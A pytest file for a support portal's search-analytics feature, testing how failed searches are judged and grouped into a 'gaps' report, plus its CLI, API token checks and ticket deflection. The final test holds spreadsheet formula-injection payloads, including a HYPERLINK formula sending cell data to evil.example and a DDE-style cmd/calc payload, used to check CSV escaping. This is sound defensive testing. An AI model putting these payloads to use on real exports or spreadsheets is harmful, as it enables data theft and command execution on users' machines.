"""Failed searches and the gaps report, from what visitors really do on the site."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import pytest

from portal import tracking
from portal.tracking.analysis import judge
from portal.tracking.analysis import load_visits

from .conftest import database_urls
from .helpers import open_result
from .helpers import send_ticket
from .helpers import vote

LATER = dt.timedelta(minutes=31)  # every visit in the test is over by then


def report(app, later: dt.timedelta = LATER) -> dict[str, tracking.Gap]:
    with app.app_context():
        assert tracking.flush()
        now = dt.datetime.now(dt.UTC) + later
        return {gap.normalized: gap for gap in tracking.gaps(now - dt.timedelta(days=1), now=now)}


def verdicts(app, later: dt.timedelta = LATER) -> list[tuple[str, str | None, str | None]]:
    """(query, failure, outcome) for every search, in order."""
    with app.app_context():
        assert tracking.flush()
        now = dt.datetime.now(dt.UTC) + later
        found = []
        for visit in load_visits(range(1, 100)):
            found += [(v.search.query, "pending" if v.pending else v.failure, v.outcome)
                      for v in judge(visit, now)]
        return found


def test_a_search_without_results_failed_and_the_visitor_left(client, app):
    client.get("/search?q=телепорт")
    assert verdicts(app) == [("телепорт", "no_results", "left")]



def test_a_search_answered_only_in_part_is_a_failure_of_its_own_in_the_gaps_report(client,
                                                                                     app):
    # No article has "телепорт": the router articles are shown, and that is no answer.
    client.get("/search?q=телепорт роутер")
    assert verdicts(app) == [("телепорт роутер", "partial", "left")]
    [gap] = report(app).values()
    assert gap.kinds == {"partial": 1}


def test_a_partial_answer_voted_helpful_did_its_job(client, app):
    vote(client, open_result(client, "телепорт роутер"), helpful=True)
    assert verdicts(app) == [("телепорт роутер", None, None)]

def test_a_search_nobody_opened_failed_and_a_later_one_found_it(client, app):
    client.get("/search?q=роутер")
    open_result(client, "сбросить пароль")
    assert verdicts(app) == [("роутер", "not_opened", "found_later"),
                             ("сбросить пароль", None, None)]


def test_a_result_voted_unhelpful_means_the_search_failed(client, app):
    vote(client, open_result(client, "роутер"), helpful=False, reason="not_solved")
    assert verdicts(app) == [("роутер", "voted_no", "left")]


def test_a_visit_ending_in_a_ticket_fails_its_searches_unless_one_was_voted_helpful(client,
                                                                                   app):
    vote(client, open_result(client, "сбросить пароль"), helpful=True)
    open_result(client, "роутер")  # read, no vote
    send_ticket(client, subject="Роутер так и не заработал")
    assert verdicts(app) == [("сбросить пароль", None, None), ("роутер", "ticket", "ticket")]
    [gap] = report(app).values()
    assert gap.ticket_ids == [1] and gap.outcomes == {"ticket": 1}


def test_while_the_visit_goes_on_an_unopened_search_is_not_judged_yet(client, app):
    client.get("/search?q=роутер")
    assert verdicts(app, later=dt.timedelta(0)) == [("роутер", "pending", None)]
    assert report(app, later=dt.timedelta(0)) == {}
    assert verdicts(app) == [("роутер", "not_opened", "left")]


def test_reading_another_article_for_long_counts_as_finding_something(client, app):
    client.get("/search?q=телепорт")
    page = client.get("/kb/account/sbros-parolya").get_data(as_text=True)
    view = re.search(r'data-view="([\w-]+)"', page).group(1)
    client.post("/kb/account/sbros-parolya/read", data={"view": view, "ms": "60000"})
    assert verdicts(app) == [("телепорт", "no_results", "found_later")]


@pytest.mark.parametrize("database", database_urls())
def test_failures_are_grouped_by_what_was_asked(make_app, articles_dir, database):
    app = make_app(articles_dir, database)
    for query in ("Телепорт сломался", "телепорты сломались", "сломался телепорт",
                  "Телепорт  сломался"):
        app.test_client().get("/search", query_string={"q": query})
    open_result(app.test_client(), "пароль")  # found and opened: not a gap
    gaps = report(app)
    assert list(gaps) == ["слома телепорт"]  # stems, sorted: inflection and order do not split
    gap = gaps["слома телепорт"]
    assert gap.failures == 4 and gap.searches == 4 and gap.failure_rate == 1.0
    assert gap.samples[0] == "Телепорт сломался"  # typed twice (spaces are folded)
    assert set(gap.samples) == {"Телепорт сломался", "телепорты сломались", "сломался телепорт"}
    assert sum(gap.kinds.values()) == 4 and gap.outcomes == {"left": 4}
    assert gap.first_seen <= gap.last_seen


def test_the_failure_rate_counts_the_searches_that_worked(app):
    for _visitor in range(3):
        app.test_client().get("/search?q=роутер")  # nobody opens anything
    open_result(app.test_client(), "роутер")
    [gap] = report(app).values()
    assert (gap.failures, gap.searches, gap.failure_rate) == (3, 4, 0.75)


def test_the_report_command_prints_a_table_csv_and_json(client, app):
    client.get("/search?q=телепорт")
    with app.app_context():
        assert tracking.flush()
    runner = app.test_cli_runner()
    table = runner.invoke(args=["report", "gaps", "--since", "7"])
    assert table.exit_code == 0 and "телепорт" in table.output and "1 gaps" in table.output
    as_csv = runner.invoke(args=["report", "gaps", "--csv"])
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert rows[0]["query"] == "телепорт" and rows[0]["no_results"] == "1"
    as_json = json.loads(runner.invoke(args=["report", "gaps", "--json"]).stdout)
    assert as_json["gaps"][0]["samples"] == ["телепорт"]


def test_the_report_as_json_needs_the_reports_token(make_app, articles_dir):
    app = make_app(articles_dir, REPORTS_API_TOKEN="s3cret-token")
    client = app.test_client()
    client.get("/search?q=телепорт")
    with app.app_context():
        assert tracking.flush()
    assert client.get("/api/v1/reports/gaps").status_code == 401
    assert client.get("/api/v1/reports/gaps",
                      headers={"Authorization": "Bearer nope"}).status_code == 401
    data = client.get("/api/v1/reports/gaps?days=7",
                      headers={"Authorization": "Bearer s3cret-token"}).get_json()
    assert data["since_days"] == 7
    assert data["gaps"][0]["query"] == "телепорт"
    assert data["gaps"][0]["kinds"] == {"no_results": 1}


def test_without_a_reports_token_only_staff_tokens_open_the_report(client):
    # No REPORTS_API_TOKEN configured: an empty bearer must not match the empty setting.
    for header in ("Bearer ", "Bearer  ", ""):
        response = client.get("/api/v1/reports/gaps", headers={"Authorization": header})
        assert response.status_code == 401


def test_a_suggestion_opened_from_the_ticket_form_without_a_ticket_is_a_deflection(app):
    deflected, wrote_anyway = app.test_client(), app.test_client()
    for client in (deflected, wrote_anyway):
        client.get("/tickets/new")
        client.get("/kb/account/sbros-parolya?via=ticket_form")
    send_ticket(wrote_anyway, subject="Пароль всё равно не подходит")
    with app.app_context():
        assert tracking.flush()
        result = tracking.deflections(dt.datetime.now(dt.UTC) - dt.timedelta(hours=1))
    assert (result.opened, result.deflected) == (2, 1)
    assert result.by_article == {"account/sbros-parolya": 1}
    output = app.test_cli_runner().invoke(args=["report", "deflections"]).output
    assert "1 of 2 suggestions" in output


def test_the_report_as_csv_never_hands_a_spreadsheet_a_formula(client, app):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', "+7 999 телепорт",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 телепорт"]
    for query in formulas:
        client.get("/search", query_string={"q": query})
    with app.app_context():
        assert tracking.flush()
    as_csv = app.test_cli_runner().invoke(args=["report", "gaps", "--csv"])
    assert as_csv.exit_code == 0
    cells = [cell for row in csv.reader(io.StringIO(as_csv.stdout)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "-")]
    # The reader still sees exactly what was typed, behind an apostrophe.
    assert "'" + formulas[0] in cells
